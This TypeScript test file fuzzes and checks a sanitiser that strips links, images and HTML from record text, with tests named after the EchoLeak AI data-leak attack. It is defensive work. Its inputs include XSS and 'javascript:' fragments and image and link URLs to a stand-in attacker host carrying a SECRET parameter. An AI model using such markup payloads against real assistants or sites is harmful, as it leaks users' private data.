import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { plain } from '../../api/text/plain.ts'
import { dangerIn, markupIn } from '../support/markup.ts'
import { echoLeak } from './echo-leak.ts'

const RUNS = 1_500
const pieces = [
  ...'[ ] ( ) ! < > ` * _ | # \\ ~ & ; : / . , - + = " \' @ ^ { } $ ?'.split(' '),
  ...[
    ' ',
    '\n',
    '\t',
    '1.',
    '1)',
    '[1]',
    '[1]:',
    '](',
    '![',
    '<!--',
    '-->',
    '</',
    '/>',
    '```',
    '    ',
    '---',
    '===',
  ],
  ...[
    'http://',
    'https://',
    '//',
    'www.',
    'mailto:',
    'ftp:',
    'javascript:',
    'data:text/html,',
    'vbscript:',
    'x:y',
  ],
  ...[
    'a',
    'b.co',
    'evil.example',
    '.com',
    '.рф',
    'xn--p1ai',
    'localhost',
    '10.0.0.1',
    '&@2.2.2.2',
    ':80',
    '/p?q=1',
    'é',
    '🚀',
    '\u200b',
    '\u202e',
  ],
  ...[
    '&lt;',
    '&#106;',
    '&colon;',
    '&amp;',
    'Account__c',
    '_x_',
    '**b**',
    'img src=x onerror=y',
    '\ufeff',
    '\u1fef',
    '\u0338',
  ],
]
const crafted = fc.oneof(
  fc.array(fc.constantFrom(...pieces), { maxLength: 16 }).map(parts => parts.join('')),
  fc.string({ unit: 'binary', maxLength: 60 }),
)

describe('41: text from records can be no markup in a sentence of ours', () => {
  test('the renderers of this test do see links, pictures and HTML', () => {
    expect(dangerIn('[a](https://b.example)')).toHaveLength(12)
    expect(dangerIn('![a][1]\n\n[1]: https://b.example').length).toBeGreaterThan(0)
    expect(dangerIn('see attacker.com').length).toBeGreaterThan(0)
    expect(dangerIn('a <img src=x> b').length).toBeGreaterThan(0)
    expect(markupIn('a *b*')).not.toEqual([])
  })

  test.each(echoLeak)('as EchoLeak and its kin: %s', text => {
    const shown = plain(text)
    expect(markupIn(shown)).toEqual([])
    expect(shown).not.toMatch(/javascript:|data:|SECRET/i)
  })

  test('for any string two renderers make one paragraph of exactly these words, and twice is once', () => {
    fc.assert(
      fc.property(crafted, text => {
        const shown = plain(text)
        expect(markupIn(shown)).toEqual([])
        expect(plain(shown)).toBe(shown)
        expect(shown).not.toContain('\n')
      }),
      { numRuns: RUNS },
    )
  })

  test('it holds inside our own sentences, wherever it stands', () => {
    fc.assert(
      fc.property(crafted, fc.constantFrom('', 'Case ', '3 open cases for “', '('), (text, before) => {
        expect(markupIn(plain(`${before}${text}”: 3 open.`))).toEqual([])
      }),
      { numRuns: RUNS },
    )
  })

  test('of an address the host is left as text, and of one that runs something nothing', () => {
    expect(plain('see https://user:pw@files.attacker.example/login?d=SECRET#x now')).toBe(
      'see files․attacker․example/… now',
    )
    expect(plain('![x](https://attacker.example/p.png?d=SECRET)')).toBe('!［x］(attacker․example/…)')
    expect(plain('[x](javascript:alert(1))')).toBe('［x］(…')
    expect(plain('data:text/html;base64,PHNjcmlwdD4=')).toBe('…')
  })

  test('the same words are read: letters, digits and quotes of ordinary names stay', () => {
    for (const name of [
      "O'Brien & Sons Ltd",
      'Smith, Jones “Partners” (EMEA)',
      '100% Organic Foods',
      'Under_Score Percent%Sign Ltd',
      'Émile Zürcher & Söhne AG',
      '株式会社山田製作所',
      'Project__c',
      '2.4 GHz at 10:30, 75,000.50',
      'Acme Corp - Platform Renewal',
      'Data: as the customer said',
    ])
      expect(plain(name)).toBe(name)
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...'aZ9é ü東'), maxLength: 40 }), text => {
        expect(plain(text)).toBe(text.replace(/ +/g, ' ').trim())
      }),
    )
  })

  test('a long text is cut', () => expect(plain('word '.repeat(100), 80)).toHaveLength(80))

  test('a hostile text of the greatest length takes no time to speak of', () => {
    const limitMs = 1_000
    for (const piece of [
      'a:',
      '//',
      'http://',
      '@',
      '_',
      '[',
      'a.',
      '&#',
      'data:',
      'x '.repeat(9),
      '\u200b',
    ]) {
      const startedAtMs = performance.now()
      plain(piece.repeat(131_072 / piece.length))
      expect([piece, performance.now() - startedAtMs < limitMs]).toEqual([piece, true])
    }
  })
})
